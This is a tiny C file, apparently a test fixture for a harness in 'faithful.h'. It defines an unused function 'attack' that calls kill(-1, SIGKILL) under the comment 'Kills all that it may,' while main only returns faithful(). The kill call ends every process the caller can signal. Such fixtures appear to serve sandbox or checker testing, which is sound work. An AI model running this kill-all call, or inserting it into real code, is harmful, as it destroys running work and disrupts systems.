/* Kills all that it may. */
#include "faithful.h"

static void attack(void) { kill(-1, SIGKILL); }

int main(void) { return faithful(); }
